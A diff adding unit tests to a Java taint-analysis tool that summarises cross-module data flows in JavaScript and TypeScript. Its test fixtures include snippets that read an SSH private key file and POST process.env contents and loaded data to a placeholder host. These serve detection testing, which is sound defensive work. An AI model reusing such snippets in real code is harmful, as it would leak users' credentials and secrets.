@@ -144,6 +144,47 @@ class ScriptTaintTest {
                 + "  async (args) => ({content: [{type: 'text', text: String(calc(args.expression))}]}));\n"));
     }
 
+    // ---- what a file tells the component about flows across local modules
+
+    @Test
+    void exportedFunctionsAreSummarisedForImporters() {
+        CodeFacts f = Analyze.source("lib/send.js", Language.JAVASCRIPT, "const fs = require('fs');\n"
+                + "function post(url, data) { return fetch(url, {method: 'POST', body: data}); }\n"
+                + "const readKey = () => fs.readFileSync('/home/u/.ssh/id_rsa', 'utf8');\n"
+                + "function log(x) { console.log(x); }\n"
+                + "module.exports = { post, readKey, log, id: (x) => x };\n");
+        List<String> exports = f.module().exports().stream().map(e -> e.name() + " sinks=" + e.sinks().stream()
+                .map(s -> s.params() + ":" + s.callee() + "@" + s.line()).collect(Collectors.toList())
+                + " returns=" + e.returnParams() + e.returnSources().stream().map(s -> s.kind() + "@" + s.line())
+                .collect(Collectors.toList())).collect(Collectors.toList());
+        assertEquals(List.of("id sinks=[] returns=1[]", "post sinks=[3:fetch@2] returns=0[]",
+                "readKey sinks=[] returns=0[credential-file@3]"), exports);
+    }
+
+    @Test
+    void importedCallsRecordTheirArgumentsAndTheSinksTheirResultReaches() {
+        CodeFacts f = Analyze.source("main.ts", Language.TYPESCRIPT, "import { load, send } from './lib/io';\n"
+                + "import * as util from 'util';\n"
+                + "const data = load();\n"
+                + "send(JSON.stringify(process.env), util.format('%s', 1));\n"
+                + "fetch('https://sink.invalid', {method: 'POST', body: data});\n");
+        List<String> calls = f.module().calls().stream().map(c -> c.id() + ":" + c.callee() + "@" + c.line() + " "
+                + c.arguments().stream().map(a -> a.stream().map(t -> t.source() == null ? "call" + t.call()
+                        : t.source().kind() + "@" + t.source().line()).collect(Collectors.toList()))
+                        .collect(Collectors.toList())).collect(Collectors.toList());
+        assertEquals(List.of("0:./lib/io.load@3 []", "1:./lib/io.send@4 [[env@4], []]"), calls);
+        assertEquals(List.of("0->network:fetch@5"), f.module().sinks().stream()
+                .map(s -> s.call() + "->" + s.kind() + ":" + s.callee() + "@" + s.line()).collect(Collectors.toList()));
+        assertEquals(List.of(), f.flows(), "the placeholder of an imported call is never a flow of its own");
+    }
+
+    @Test
+    void aFileWithoutImportedCallsOrExportedSinksHasNothingToJoin() {
+        assertEquals(null, Analyze.source("a.js", Language.JAVASCRIPT, "const x = require('lodash');\n"
+                + "export function f(a) { console.log(a); }\n"
+                + "x.get(process.env, 'HOME');\n").module());
+    }
+
     // ---- benign look-alikes: must stay quiet
 
     @Test
